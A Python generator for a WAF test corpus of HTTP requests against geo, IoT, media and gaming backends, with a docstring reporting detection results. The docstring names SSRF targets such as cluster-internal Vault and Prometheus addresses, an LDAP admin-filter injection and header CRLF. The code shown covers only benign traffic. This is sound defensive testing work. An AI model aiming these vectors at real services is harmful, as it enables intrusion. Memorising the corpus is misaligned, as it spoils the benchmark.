#!/usr/bin/env python3
"""Held-out HTTP test corpus: geo, IoT, mobile backends, media and gaming.

What it is
    A deterministic generator of realistic HTTP requests against the backends of
    map and sensor products running in Kubernetes: tile servers and geocoders
    (XYZ/WMTS tiles, OGC WMS/WFS with CQL filters, GeoServer, pg_featureserv-style
    PostGIS APIs, GeoJSON and WKT such as POLYGON((30 10, 40 40, 20 40, 30 10))),
    IoT fleets (telemetry JSON, SenML, LwM2M registration and CoAP-over-HTTP
    gateways, MQTT-bridge APIs with topics like sensors/+/temp/#, OTA firmware,
    device shadows, Tasmota commands, Home Assistant and Node-RED webhooks),
    mobile app backends (push tokens, Firebase-style REST with orderBy="$key",
    in-app purchase receipts, deep links, analytics batches), media and streaming
    (HLS/DASH manifests and byte-range segments, tus and multipart uploads,
    transcoding jobs with ffmpeg filter graphs, WebVTT/SRT subtitles, podcast
    feeds ingested by URL, image-resize URLs) and gaming backends (leaderboards,
    chat with emoji and l33t, matchmaking).  Coordinates, filter graphs and
    topic wildcards are full of ( ) , ; : ' + # = which makes them a hard
    false-positive test for a WAF.

    * benign       ~500 ordinary requests (expect "pass"), plus ~50 "dev-content"
                   requests: Node-RED function code, ffmpeg command lines in a
                   support ticket, SQL in a PostGIS admin console, GDAL commands,
                   Lua/JS game mods, Home Assistant templates (expect "pass",
                   counted apart).
    * attacks      ~260 requests (expect "detect") with real attack payloads in
                   the domain's own injection points (CQL/bbox/WKT parameters,
                   tile-proxy, podcast and webhook URLs, transcoding filter
                   strings, device names, tile z/x/y and segment paths,
                   KML/GPX/SVG/SLD uploads, chat, Firebase/Mongo queries,
                   telemetry fields, notification templates, deep links...).

    Written blind: without looking at the WAF's rules, its tests or other
    corpora's payload lists, so it measures generalisation rather than
    rule-fitting.

How to run
    python3 scripts/corpus-geoiot.py attacks > rulesets/tests/data/geoiot-attacks.jsonl
    python3 scripts/corpus-geoiot.py benign  > rulesets/tests/data/geoiot-benign.jsonl
    python3 scripts/corpus-geoiot.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "geoiot", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.
Content-Length always matches the body's UTF-8 length, except in the few
"protocol" attacks that are about a wrong or doubled length.

First sight (2026-12-05, palisade-rules at c163c11)
---------------------------------------------------
Counts: 271 attacks (sqli 43, ssrf 31, xss 30, rce 24, lfi 22, java 19, xxe 17,
nosqli 16, ssti 16, crlf 10, generic 10, ldapi 10, php 9, protocol 8, rfi 6),
582 benign (530 ordinary + 52 dev-content).

PL1 (threshold 5, built-in rules), one run, nothing tuned:
  attacks blocked   265/271 = 97.8 %  (every class 100 % except ssrf 27/31,
                    ldapi 9/10, protocol 7/8)
  benign blocked    21/530 = 4.0 % ordinary, 23/52 = 44.2 % dev-content

Missed (6): SSRF to cluster-internal names and loopback ports in webhook /
provider URLs (prometheus-server.monitoring.svc.cluster.local:9090,
argocd-server.argocd.svc, localhost:1880/flows, vault.vault.svc:8200); a whole
LDAP filter with memberOf=cn=ADMIN in a filter= parameter; CRLF inside an
X-Forwarded-For header value.

Ordinary benign blocked (21): protocol-110 on Content-Type application/link-format
(LwM2M registration, 5), text/vtt and application/x-subrip (subtitle uploads,
12); rce-100 on a Tasmota Backlog command ("...; SSID1 IoT-2.4G; Hostname
garage-%06X", 2); java-110 on an Android crash report's stack trace (2).
Dev-content blocked: PostGIS SQL 10/12 (sqli-011/012/022/041), shell/GDAL/
kubectl snippets in tickets 6/6, Lua/JS mod sources 5/8 (protocol-110 on
text/x-lua, application/javascript), Node-RED function code 2/8 (sqli-021);
ffmpeg tickets, HA YAML and map styles passed.
"""

import base64
import hashlib
import json
import random
import sys
import urllib.parse

SET = "geoiot"
OUT = {"attacks": [], "benign": []}
_COUNTERS = {}
_SEEN = set()


def add(kind, category, sub, method, uri, headers, body=None, auto_cl=True):
    """Append one request; Content-Length is added from the body's UTF-8 size."""
    key = (category, sub)
    _COUNTERS[key] = _COUNTERS.get(key, 0) + 1
    rid = f"{SET}/{category}/{sub}-{_COUNTERS[key]:03d}"
    headers = [list(h) for h in headers]
    if body is not None and auto_cl and not any(h[0].lower() == "content-length" for h in headers):
        headers.append(["Content-Length", str(len(body.encode("utf-8")))])
    sig = (method, uri, body, json.dumps(headers), category if kind == "benign" else "")
    if kind == "attacks":
        # No attack request may be repeated verbatim.
        assert sig not in _SEEN, f"duplicate attack request {rid}: {uri}"
    _SEEN.add(sig)
    rec = {"id": rid, "set": SET, "category": category,
           "expect": "detect" if kind == "attacks" else "pass",
           "method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers}
    if body is not None:
        rec["body"] = body
    OUT[kind].append(rec)


def gen(fn):
    """Run one generator with its own RNG seeded by the generator's name."""
    fn(random.Random(fn.__name__))


# ---------------------------------------------------------------- encoding

def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


STYLES = {
    "form": lambda v: urllib.parse.quote_plus(v, safe=""),         # URLSearchParams, okhttp forms
    "js": lambda v: urllib.parse.quote(v, safe="-_.!~*'()"),       # encodeURIComponent
    "ogc": lambda v: urllib.parse.quote(v, safe=",:/()'"),          # GeoServer preview, QGIS
    "min": lambda v: urllib.parse.quote(v, safe=",:/()'$\"*@;!"),   # hand-typed / curl
}


def qs(pairs, style="js"):
    enc = STYLES[style]
    return "&".join(f"{enc(k) if style != 'min' else q(k, safe='[]$')}={enc(str(v))}" for k, v in pairs)


def uri(path, pairs=None, style="js"):
    return path + ("?" + qs(pairs, style) if pairs else "")


def rstyle(r):
    return r.choice(["form", "js", "js", "ogc", "min"])


def hexid(r, n=12):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def uuid4(r):
    h = hexid(r, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{r.choice('89ab')}{h[17:20]}-{h[20:]}"


def b64u(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def jwt(r, iss="https://auth.fleetgrid.io", sub=None, aud="api"):
    hdr = {"alg": "RS256", "typ": "JWT", "kid": hexid(r, 16)}
    pl = {"iss": iss, "sub": sub or uuid4(r), "aud": aud, "iat": 1733400000 + r.randint(0, 90000)}
    pl["exp"] = pl["iat"] + 3600
    return ".".join([b64u(json.dumps(hdr, separators=(",", ":")).encode()),
                     b64u(json.dumps(pl, separators=(",", ":")).encode()), b64u(r.randbytes(256))])


def jdump(obj, r=None, pretty=False):
    if pretty or (r is not None and r.random() < 0.2):
        return json.dumps(obj, indent=2, ensure_ascii=False)
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=(r is not None and r.random() < 0.15))


def iso(r, year=2026):
    return (f"{year}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}T"
            f"{r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d}Z")


def ts_ms(r):
    return 1764900000000 + r.randint(0, 86400000)


# ---------------------------------------------------------------- clients

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
]
GIS_CLIENTS = [
    "Mozilla/5.0 QGIS/33800/Ubuntu 24.04.1 LTS",
    "Mozilla/5.0 QGIS/34004/Windows 11 Version 2009",
    "GDAL/3.9.2",
    "OWSLib 0.31.0 (https://owslib.readthedocs.io)",
    "python-requests/2.32.3",
    "ArcGIS Pro 3.3.1 (00000000000) - ArcGISPro",
]
MOBILE = [
    "okhttp/4.12.0",
    "okhttp/4.11.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)",
    "Trailmate/5.14.2 (com.trailmate.app; build:5142; Android 13) okhttp/4.12.0",
    "Trailmate/5.14.1 (com.trailmate.ios; build:2291; iOS 17.6.1) Alamofire/5.9.1",
    "Trailmate/2291 CFNetwork/1496.0.7 Darwin/23.5.0",
    "Pulse/3.2.0 (iPhone15,2; iOS 18.1; Scale/3.00)",
    "Pulse/812 CFNetwork/1568.200.51 Darwin/24.1.0",
]
DEVICES = [
    "ESP32HTTPClient",
    "ESP8266HTTPClient",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Home Assistant/2024.11.3 aiohttp/3.10.10 Python/3.12",
    "Node-RED",
    "axios/1.7.7",
    "fleet-agent/2.8.1 (linux; arm64)",
    "Zephyr-HTTP/3.6",
]
PLAYERS = [
    "AppleCoreMedia/1.0.0.21G93 (iPhone; U; CPU OS 17_6 like Mac OS X; en_us)",
    "ExoPlayerLib/2.19.1",
    "Lavf/61.1.100",
    "VLC/3.0.21 LibVLC/3.0.21",
    "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36",
    "Roku/DVP-13.0 (13.0.0.4184-C6)",
]
GAMES = [
    "UnityPlayer/2022.3.51f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)",
    "UnityPlayer/6000.0.26f1 (UnityWebRequest/1.0, libcurl/8.10.1-DEV)",
    "Skyforge/++UE5+Release-5.4-CL-33043543 Windows/10.0.22631.1.256.64bit",
    "Skyforge/++UE5+Release-5.4-CL-33043543 IOS/17.6.1",
    "GodotEngine/4.3.stable.official (Linux)",
]


def headers(r, host, ua, accept="application/json", ctype=None, auth=None, cookie=None, extra=()):
    h = [["Host", host], ["User-Agent", ua], ["Accept", accept]]
    if ua.startswith("Mozilla/5.0 (") and "QGIS" not in ua:
        h.append(["Accept-Language", r.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8",
                                               "fr-FR,fr;q=0.9", "en-GB,en;q=0.9", "ja,en-US;q=0.8"])])
        h.append(["Accept-Encoding", "gzip, deflate, br, zstd"])
    elif ua.startswith("okhttp") or "okhttp" in ua:
        h.append(["Accept-Encoding", "gzip"])
    if auth == "bearer":
        h.append(["Authorization", "Bearer " + jwt(r)])
    elif auth == "key":
        h.append(["X-API-Key", hexid(r, 32)])
    elif auth:
        h.append(["Authorization", auth])
    if cookie:
        h.append(["Cookie", cookie])
    h.extend([list(x) for x in extra])
    if ctype:
        h.append(["Content-Type", ctype])
    return h


def session_cookie(r):
    return f"session={b64u(r.randbytes(24))}; _ga=GA1.1.{r.randint(10**8, 10**9)}.{1733000000 + r.randint(0, 99999)}"


# ================================================================ geo data

GEO_HOSTS = ["tiles.mapforge.io", "maps.fleetgrid.io", "geo.internal.svc.cluster.local:8080",
             "geoserver.gis.example.org", "features.trailmate.app", "geocode.mapforge.io"]
LAYERS = ["topp:states", "osm:roads", "cadastre:parcels", "hydro:rivers", "ne:populated_places",
          "transport:bus_stops", "landuse:zoning_2024", "utilities:water_mains", "fleet:geofences"]
PLACES = [
    (-0.1276, 51.5072, "London"), (2.3522, 48.8566, "Paris"), (13.405, 52.52, "Berlin"),
    (-73.9857, 40.7484, "New York"), (139.6917, 35.6895, "Tokyo"), (-122.4194, 37.7749, "San Francisco"),
    (151.2093, -33.8688, "Sydney"), (-6.2603, 53.3498, "Dublin"), (18.0686, 59.3293, "Stockholm"),
    (-43.1729, -22.9068, "Rio de Janeiro"), (28.9784, 41.0082, "Istanbul"), (-5.7167, 50.0667, "Land's End"),
]
ADDRESSES = [
    "10 Downing St, London SW1A 2AA", "1600 Amphitheatre Pkwy, Mountain View, CA",
    "O'Connell Street Upper, Dublin 1", "5th Ave & E 42nd St, New York, NY", "Champs-Élysées 75008 Paris",
    "Kurfürstendamm 21, 10719 Berlin", "Rua Augusta #1200 - São Paulo", "Côte d'Ivoire",
    "St. John's, NL A1C 5M2", "Hauptstraße 5/7, 69117 Heidelberg", "1-1 Chiyoda, Tokyo 100-8111",
    "Land's End, Sennen, Penzance TR19 7AA", "Route de l'Aéroport 25, 1215 Genève",
    "Unit 4B, 12–14 Mill Lane (rear), Leeds LS1", "Mary's Café, Main St; Ballymena",
    "C/ de Mallorca, 401, 08013 Barcelona", "Dr. Martin Luther King Jr. Blvd & 3rd St",
    "Plac Defilad 1, 00-901 Warszawa", "東京都港区芝公園4-2-8", "Tel Aviv-Yafo, 'Ein Gedi St 3",
]


def lonlat(r, spread=0.2):
    lon, lat, _ = r.choice(PLACES)
    return round(lon + r.uniform(-spread, spread), 6), round(lat + r.uniform(-spread, spread), 6)


def bbox(r, spread=0.05):
    lon, lat = lonlat(r)
    w, h = r.uniform(0.005, spread), r.uniform(0.005, spread)
    return [round(lon - w, 6), round(lat - h, 6), round(lon + w, 6), round(lat + h, 6)]


def wkt_polygon(r):
    x0, y0, x1, y1 = bbox(r)
    if r.random() < 0.3:
        return "POLYGON((30 10, 40 40, 20 40, 10 20, 30 10))"
    pts = [(x0, y0), (x1, y0), (x1, y1), (x0, y1), (x0, y0)]
    sep = r.choice([", ", ","])
    return "POLYGON((" + sep.join(f"{x} {y}" for x, y in pts) + "))"


def wkt_any(r):
    lon, lat = lonlat(r)
    k = r.randint(0, 4)
    if k == 0:
        return f"POINT({lon} {lat})"
    if k == 1:
        return f"SRID=4326;POINT({lon} {lat})"
    if k == 2:
        return "LINESTRING(" + ", ".join(f"{round(lon + i * 0.001, 5)} {round(lat + i * 0.0007, 5)}" for i in range(4)) + ")"
    if k == 3:
        return "MULTIPOLYGON(((30 20, 45 40, 10 40, 30 20)),((15 5, 40 10, 10 20, 5 10, 15 5)))"
    return wkt_polygon(r)


def geojson_feature(r, props=None):
    lon, lat = lonlat(r)
    if r.random() < 0.5:
        geom = {"type": "Point", "coordinates": [lon, lat]}
    else:
        ring = [[lon, lat], [lon + 0.01, lat], [lon + 0.01, lat + 0.01], [lon, lat + 0.01], [lon, lat]]
        geom = {"type": "Polygon", "coordinates": [[[round(a, 6), round(b, 6)] for a, b in ring]]}
    return {"type": "Feature", "geometry": geom, "properties": props or {}}


CQL_BENIGN = [
    lambda r: f"INTERSECTS(the_geom, {wkt_polygon(r)})",
    lambda r: "BBOX(the_geom, %s, %s, %s, %s)" % tuple(bbox(r)),
    lambda r: f"DWITHIN(geom, POINT(%s %s), {r.choice([100, 250, 500, 1000])}, meters)" % lonlat(r),
    lambda r: f"name LIKE '{r.choice(['Saint', 'St.', 'Mc', 'O'])}%'",
    lambda r: f"population > {r.randint(1, 50) * 1000} AND type = 'city'",
    lambda r: "STATE_NAME = 'New York' OR STATE_NAME IN ('Vermont', 'Maine')",
    lambda r: f"name = 'Land''s End' AND elevation < {r.randint(10, 90)}",
    lambda r: f"zone_code IN ('R-1','R-2','C-3') AND area_m2 BETWEEN {r.randint(100, 400)} AND {r.randint(500, 5000)}",
    lambda r: f"updated_at AFTER 2026-{r.randint(1, 11):02d}-01T00:00:00Z",
    lambda r: "owner ILIKE '%o''brien%'",
    lambda r: f"WITHIN(geom, {wkt_polygon(r)}) AND status <> 'retired'",
    lambda r: "strToLowerCase(name) LIKE '%straße%'",
    lambda r: f"diameter_mm >= {r.choice([100, 150, 200])} AND material NOT IN ('PVC') AND install_year < 1975",
    lambda r: "IN ('parcels.1001', 'parcels.1002')",
    lambda r: f"route_id = '{r.randint(1, 99)}A' AND wheelchair_boarding = 1",
    lambda r: "depth IS NULL OR depth < 0.5",
]


def b_tiles(r):
    for _ in range(32):
        z = r.randint(2, 19)
        x, y = r.randint(0, 2 ** z - 1), r.randint(0, 2 ** z - 1)
        k = r.randint(0, 6)
        ua = r.choice(BROWSERS + MOBILE[:3])
        host = r.choice(GEO_HOSTS[:3])
        if k == 0:
            path = f"/tiles/osm-bright/{z}/{x}/{y}{r.choice(['', '@2x'])}.png"
            acc = "image/avif,image/webp,image/png,image/*;q=0.8,*/*;q=0.5"
        elif k == 1:
            path = f"/data/v3/{z}/{x}/{y}.pbf"
            acc = "application/x-protobuf,*/*"
        elif k == 2:
            path = f"/public.parcels/{z}/{x}/{y}.pbf"
            acc = "*/*"
            if r.random() < 0.5:
                path += "?" + qs([("properties", "parcel_id,owner_name,zoning"), ("limit", 50000)], rstyle(r))
        elif k == 3:
            path = f"/styles/v1/mapforge/{r.choice(['streets-v12', 'outdoors-v12', 'dark'])}/tiles/512/{z}/{x}/{y}@2x?access_token=pk.{b64u(r.randbytes(30))}"
            acc = "image/webp,*/*"
        elif k == 4:
            path = uri("/wmts", [("SERVICE", "WMTS"), ("REQUEST", "GetTile"), ("VERSION", "1.0.0"),
                                 ("LAYER", r.choice(LAYERS)), ("STYLE", "default"), ("TILEMATRIXSET", "EPSG:3857"),
                                 ("TILEMATRIX", f"EPSG:3857:{z}"), ("TILEROW", y), ("TILECOL", x),
                                 ("FORMAT", "image/png")], rstyle(r))
            acc = "image/png,*/*"
        elif k == 5:
            path = f"/public.parcels_by_area/{z}/{x}/{y}.pbf?" + qs([("min_area", r.randint(100, 2000)), ("max_area", r.randint(5000, 90000))])
            acc = "*/*"
        else:
            a = r.randint(0, 255) * 256
            path = f"/fonts/{q('Open Sans Regular,Arial Unicode MS Regular', safe=',')}/{a}-{a + 255}.pbf"
            acc = "*/*"
        h = headers(r, host, ua, acc, extra=[["Referer", "https://app.trailmate.app/map"]] if ua in BROWSERS else ())
        add("benign", "benign", "tile", "GET", path, h)


def b_wms(r):
    for _ in range(24):
        bb = bbox(r)
        layer = r.choice(LAYERS)
        ua = r.choice(BROWSERS + GIS_CLIENTS)
        k = r.randint(0, 3)
        if k == 0:
            pairs = [("SERVICE", "WMS"), ("VERSION", "1.3.0"), ("REQUEST", "GetMap"), ("FORMAT", "image/png"),
                     ("TRANSPARENT", "true"), ("LAYERS", layer), ("STYLES", ""), ("CRS", "EPSG:4326"),
                     ("WIDTH", 768), ("HEIGHT", 512), ("BBOX", ",".join(map(str, [bb[1], bb[0], bb[3], bb[2]])))]
            if r.random() < 0.5:
                pairs.append(("CQL_FILTER", r.choice(CQL_BENIGN)(r)))
            if r.random() < 0.3:
                pairs.append(("format_options", "dpi:180;antialiasing:text"))
        elif k == 1:
            pairs = [("SERVICE", "WMS"), ("VERSION", "1.1.1"), ("REQUEST", "GetFeatureInfo"), ("LAYERS", layer),
                     ("QUERY_LAYERS", layer), ("INFO_FORMAT", r.choice(["application/json", "text/html"])),
                     ("FEATURE_COUNT", 10), ("X", r.randint(0, 255)), ("Y", r.randint(0, 255)), ("WIDTH", 256),
                     ("HEIGHT", 256), ("SRS", "EPSG:4326"), ("BBOX", ",".join(map(str, bb)))]
        elif k == 2:
            pairs = [("service", "WMS"), ("request", "GetCapabilities"), ("version", r.choice(["1.1.1", "1.3.0"]))]
        else:
            pairs = [("SERVICE", "WMS"), ("REQUEST", "GetLegendGraphic"), ("VERSION", "1.0.0"), ("FORMAT", "image/png"),
                     ("WIDTH", 20), ("HEIGHT", 20), ("LAYER", layer), ("LEGEND_OPTIONS", "fontName:Noto Sans;fontAntiAliasing:true;forceLabels:on")]
        path = uri(f"/geoserver/{r.choice(['wms', 'ows', layer.split(':')[0] + '/wms'])}", pairs, rstyle(r))
        add("benign", "benign", "wms", "GET", path,
            headers(r, r.choice(GEO_HOSTS[1:4]), ua, "image/png,*/*" if k != 2 else "application/xml,text/xml"))


def wfs_getfeature_xml(r, type_name, filter_xml):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<wfs:GetFeature service="WFS" version="2.0.0" outputFormat="application/json" count="100"\n'
            '  xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:fes="http://www.opengis.net/fes/2.0"\n'
            '  xmlns:gml="http://www.opengis.net/gml/3.2">\n'
            f'  <wfs:Query typeNames="{type_name}">\n    <fes:Filter>\n{filter_xml}\n    </fes:Filter>\n'
            '  </wfs:Query>\n</wfs:GetFeature>\n')


def b_wfs(r):
    for _ in range(24):
        layer = r.choice(LAYERS)
        ua = r.choice(BROWSERS + GIS_CLIENTS)
        host = r.choice(GEO_HOSTS[1:4])
        k = r.randint(0, 4)
        if k <= 2:
            pairs = [("service", "WFS"), ("version", "2.0.0"), ("request", "GetFeature"), ("typeNames", layer),
                     ("outputFormat", "application/json"), ("count", r.choice([50, 100, 1000])),
                     ("srsName", "EPSG:4326")]
            if k == 0:
                pairs.append(("CQL_FILTER", r.choice(CQL_BENIGN)(r)))
            elif k == 1:
                pairs.append(("bbox", ",".join(map(str, bbox(r))) + ",EPSG:4326"))
                pairs.append(("propertyName", "name,the_geom,population"))
            else:
                pairs += [("sortBy", r.choice(["name A", "population D", "updated_at+D"])),
                          ("startIndex", r.randint(0, 20) * 100)]
            add("benign", "benign", "wfs", "GET", uri("/geoserver/wfs", pairs, rstyle(r)),
                headers(r, host, ua, "application/json"))
        elif k == 3:
            x0, y0, x1, y1 = bbox(r)
            flt = r.choice([
                f'      <fes:PropertyIsLike wildCard="*" singleChar="." escapeChar="!">\n'
                f'        <fes:ValueReference>name</fes:ValueReference><fes:Literal>{r.choice(["Saint*", "*Brien", "Mc*"])}</fes:Literal>\n'
                f'      </fes:PropertyIsLike>',
                f'      <fes:BBOX><fes:ValueReference>the_geom</fes:ValueReference>\n'
                f'        <gml:Envelope srsName="urn:ogc:def:crs:EPSG::4326"><gml:lowerCorner>{y0} {x0}</gml:lowerCorner>'
                f'<gml:upperCorner>{y1} {x1}</gml:upperCorner></gml:Envelope>\n      </fes:BBOX>',
                f'      <fes:And><fes:PropertyIsGreaterThan><fes:ValueReference>population</fes:ValueReference>'
                f'<fes:Literal>{r.randint(1000, 90000)}</fes:Literal></fes:PropertyIsGreaterThan>\n'
                f'      <fes:PropertyIsEqualTo><fes:ValueReference>country</fes:ValueReference><fes:Literal>Côte d&apos;Ivoire</fes:Literal></fes:PropertyIsEqualTo></fes:And>',
            ])
            body = wfs_getfeature_xml(r, layer, flt)
            add("benign", "benign", "wfs", "POST", "/geoserver/wfs",
                headers(r, host, ua, "application/json", "text/xml; charset=UTF-8"), body)
        else:
            lon, lat = lonlat(r)
            body = ('<wfs:Transaction service="WFS" version="1.1.0" xmlns:wfs="http://www.opengis.net/wfs" '
                    'xmlns:gml="http://www.opengis.net/gml" xmlns:fleet="http://fleetgrid.io/fleet">\n'
                    '  <wfs:Insert>\n    <fleet:geofences>\n'
                    f'      <fleet:name>{r.choice(["Depot North", "Yard #2", "Smith & Sons loading bay", "O&apos;Hare cargo"])}</fleet:name>\n'
                    f'      <fleet:the_geom><gml:Point srsName="EPSG:4326"><gml:pos>{lon} {lat}</gml:pos></gml:Point></fleet:the_geom>\n'
                    '    </fleet:geofences>\n  </wfs:Insert>\n</wfs:Transaction>\n')
            add("benign", "benign", "wfs-t", "POST", "/geoserver/wfs",
                headers(r, host, "Mozilla/5.0 QGIS/33800/Ubuntu 24.04.1 LTS", "text/xml", "text/xml",
                        auth="Basic " + base64.b64encode(b"gis-editor:Tr41l&Map!").decode()), body)


ST_FILTERS = [
    lambda r: ("S_INTERSECTS(geom, %s)" % wkt_polygon(r)),
    lambda r: ("ST_DWithin(geom, ST_MakePoint(%s, %s)::geography, %d)" % (*lonlat(r), r.choice([50, 200, 1000]))),
    lambda r: ("ST_Intersects(geom, ST_MakeEnvelope(%s, %s, %s, %s, 4326))" % tuple(bbox(r))),
    lambda r: "name ILIKE 'st%' AND pop_est > 5000",
    lambda r: "ST_Within(geom, ST_GeomFromText('%s', 4326))" % wkt_polygon(r),
    lambda r: "kind = 'bus_stop' AND shelter = true",
]


def b_features(r):
    for _ in range(18):
        coll = r.choice(["public.parcels", "public.trails", "transport.bus_stops", "ne.countries", "fleet.geofences"])
        k = r.randint(0, 4)
        host = r.choice(GEO_HOSTS[3:5])
        ua = r.choice(BROWSERS + MOBILE[:4] + GIS_CLIENTS[3:5])
        if k == 0:
            pairs = [("bbox", ",".join(map(str, bbox(r)))), ("limit", r.choice([10, 50, 500])),
                     ("properties", "name,kind,length_km")]
        elif k == 1:
            pairs = [("filter", r.choice(ST_FILTERS)(r)), ("filter-lang", "cql2-text"), ("limit", 100)]
        elif k == 2:
            pairs = [("geometry", wkt_any(r)), ("spatialRel", r.choice(["ST_Intersects", "ST_Contains", "ST_Within", "ST_Touches"])),
                     ("transform", "ST_Simplify(geom,0.0001)"), ("precision", 6)]
        elif k == 3:
            pairs = [("datetime", "2026-01-01T00:00:00Z/.."), ("sortby", "-updated_at"), ("f", "json")]
        else:
            x, y = lonlat(r)
            pairs = [("lon", x), ("lat", y), ("radius", r.choice([250, 500, 5000])), ("fn", "ST_DistanceSphere")]
        add("benign", "benign", "features", "GET", uri(f"/collections/{coll}/items", pairs, rstyle(r)),
            headers(r, host, ua, "application/geo+json", auth=r.choice([None, "bearer"])))
    for _ in range(12):
        props = {"name": r.choice(["Riverside loop", "Mary's shortcut", "North trailhead — car park", "Ridge (closed in winter)"]),
                 "difficulty": r.choice(["easy", "moderate", "hard"]), "notes": r.choice(["", "Muddy after rain; use boots", "50% gravel / 50% tarmac", "Access via gate #3 (code at reception)"])}
        fc = {"type": "FeatureCollection", "features": [geojson_feature(r, props) for _ in range(r.randint(1, 3))]}
        m = r.choice(["POST", "PUT"])
        add("benign", "benign", "geojson", m, f"/collections/user.trails/items{'' if m == 'POST' else '/' + str(r.randint(1, 9999))}",
            headers(r, GEO_HOSTS[4], r.choice(MOBILE), "application/geo+json", "application/geo+json", auth="bearer"),
            jdump(fc if m == "POST" else fc["features"][0], r))


def b_geocode(r):
    for _ in range(26):
        ua = r.choice(BROWSERS + MOBILE)
        host = GEO_HOSTS[5]
        k = r.randint(0, 3)
        if k <= 1:
            pairs = [("q", r.choice(ADDRESSES)), ("format", "jsonv2"), ("limit", r.randint(1, 10)),
                     ("accept-language", r.choice(["en", "de", "fr", "ja"]))]
            if r.random() < 0.4:
                pairs.append(("viewbox", ",".join(map(str, bbox(r, 0.5)))))
            path = uri("/search", pairs, rstyle(r))
        elif k == 2:
            x, y = lonlat(r)
            path = uri("/reverse", [("lat", y), ("lon", x), ("zoom", 18), ("addressdetails", 1)], rstyle(r))
        else:
            pts = ";".join(f"{x},{y}" for x, y in (lonlat(r, 0.05) for _ in range(r.randint(2, 4))))
            path = f"/route/v1/{r.choice(['driving', 'cycling', 'foot'])}/{pts}?" + qs(
                [("overview", "full"), ("geometries", "polyline6"), ("steps", "true"), ("annotations", "duration,distance")])
        add("benign", "benign", "geocode", "GET", path, headers(r, host, ua, "application/json", auth=r.choice([None, "key"])))
    for _ in range(6):
        x0, y0 = lonlat(r)
        body = jdump({"locations": [{"lat": round(y0 + r.uniform(-0.02, 0.02), 6), "lon": round(x0 + r.uniform(-0.02, 0.02), 6)}],
                      "costing": "auto", "contours": [{"time": 10, "color": "ff0000"}, {"time": 20}],
                      "polygons": True, "denoise": 0.5}, r)
        add("benign", "benign", "isochrone", "POST", "/isochrone",
            headers(r, host, r.choice(BROWSERS), "application/json", "application/json"), body)


# ================================================================ IoT

IOT_HOSTS = ["ingest.fleetgrid.io", "mqtt-bridge.iot.svc.cluster.local:8080", "lwm2m.fleetgrid.io",
             "ota.fleetgrid.io", "homeassistant.local:8123", "nodered.lan:1880", "shadow.fleetgrid.io"]
DEVICE_NAMES = ["boiler-room temp #2", "Kitchen (fridge) sensor", "O'Brien's greenhouse", "Pump 3 – north well",
                "lorawan-gw-07", "Büro Heizung OG", "garage/door", "Bay 12: cold chain", "esp32-c3_4F:A1",
                "Dock #4 > reefer", "Tank A & B level", "trk-00917 [Ford Transit]"]
TOPICS = ["sensors/+/temp/#", "sensors/greenhouse-3/humidity", "fleet/+/gps", "home/livingroom/light/set",
          "zigbee2mqtt/bridge/request/device/rename", "tele/tasmota_4FA1B2/SENSOR", "$SYS/broker/clients/connected",
          "spBv1.0/plant1/DDATA/edge-7/pump3", "devices/trk-00917/events/#", "+/+/status", "shellies/announce"]


def mac(r):
    return ":".join(f"{r.randint(0, 255):02X}" for _ in range(6))


def dev_id(r):
    return r.choice(["esp32-", "trk-", "gw-", "th-", "meter-"]) + hexid(r, 6)


def iot_headers(r, host, ctype="application/json", ua=None, extra=()):
    ua = ua or r.choice(DEVICES)
    auth = r.choice(["bearer", "key", "Basic " + base64.b64encode(f"{dev_id(r)}:{hexid(r, 20)}".encode()).decode(), None])
    return headers(r, host, ua, r.choice(["application/json", "*/*"]), ctype, auth=auth, extra=extra)


def b_telemetry(r):
    for _ in range(26):
        d = dev_id(r)
        k = r.randint(0, 4)
        if k == 0:
            body = jdump({"deviceId": d, "ts": ts_ms(r), "fw": f"{r.randint(1, 4)}.{r.randint(0, 20)}.{r.randint(0, 9)}",
                          "temp_c": round(r.uniform(-20, 45), 2), "rh": round(r.uniform(10, 99), 1),
                          "batt_mv": r.randint(2900, 4200), "rssi": -r.randint(40, 110), "name": r.choice(DEVICE_NAMES)}, r)
            path = f"/v1/devices/{d}/telemetry"
        elif k == 1:
            bn = f"urn:dev:mac:{mac(r).replace(':', '').lower()}:"
            body = jdump([{"bn": bn, "bt": 1.7649e9 + r.randint(0, 9999), "n": "temp", "u": "Cel", "v": round(r.uniform(5, 30), 1)},
                          {"n": "hum", "u": "%RH", "v": r.randint(20, 90)}, {"n": "door", "vb": r.random() < 0.5},
                          {"n": "fw", "vs": "v2.3.1+build.77"}], r)
            path = "/senml/ingest"
